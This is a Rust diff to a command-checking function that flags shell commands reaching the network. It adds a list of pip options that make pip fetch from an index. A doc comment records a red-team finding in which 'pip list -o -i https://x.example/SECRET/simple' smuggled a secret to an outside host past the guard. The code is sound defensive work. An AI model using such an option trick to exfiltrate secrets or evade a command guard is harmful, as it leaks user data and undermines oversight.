@@ -40,10 +40,12 @@ pub(super) fn reaches(
     if command.dynamic || command.path.is_some() {
         return Reached::Yes;
     }
-    if found
-        .iter()
-        .any(|f| matches!(f, Finding::Uploads(_) | Finding::RunsCode(_) | Finding::Unknown))
-    {
+    if found.iter().any(|f| {
+        matches!(
+            f,
+            Finding::Uploads(_) | Finding::RunsCode(_) | Finding::Unknown | Finding::Unlisted(_)
+        )
+    }) {
         return Reached::Yes;
     }
     let Some(spec) = spec else {
@@ -64,8 +66,9 @@ pub(super) fn reaches(
     let words = spellings::prepare(spec.special, &command.words);
     let scanned = scan(spec, &words);
     // An interpreter runs its script; `python3 -m pytest` runs a module the table knows
-    // as a plain tool (any other module is a `runs_code` finding, above).
-    if spec.stdin_code && !special::runs_module(spec.special, &scanned) {
+    // as a plain tool (a library module is a `runs_code` finding, above; the project's
+    // module is its script).
+    if spec.stdin_code && !special::runs_plain_module(spec.special, &scanned) {
         return Reached::Yes;
     }
     // `""` stands for the program run without a subcommand (a bare `yarn` installs); an
@@ -78,6 +81,7 @@ pub(super) fn reaches(
     };
     if !spec.network_subcommands.is_empty()
         && named(&|n| spec.network_subcommands.iter().any(|s| s == n))
+        || fetches_by_option(&command.program, &scanned)
     {
         return Reached::Yes;
     }
@@ -87,6 +91,27 @@ pub(super) fn reaches(
         runners.is_some_and(|runners| runners.is_empty() || named(&|n| runners.contains(&n)))
     };
     if project { Reached::ProjectCode } else { Reached::No }
+}
+
+/// Whether an option makes a command that otherwise stays local fetch: `pip list
+/// --outdated` asks the index for newer versions, at the URL `-i` gives (red team round
+/// 28, flow H3: `pip list -o -i https://x.example/SECRET/simple` carried a secret out).
+fn fetches_by_option(program: &str, scanned: &super::scan::Scanned) -> bool {
+    match program {
+        "pip" | "pip3" => scanned.has(&[
+            "-o",
+            "--outdated",
+            "-u",
+            "--uptodate",
+            "-i",
+            "--index-url",
+            "--extra-index-url",
+            "-f",
+            "--find-links",
+            "--proxy",
+        ]),
+        _ => false,
+    }
 }
 
 /// The subcommands with which `program` runs the project's own code (its build scripts,
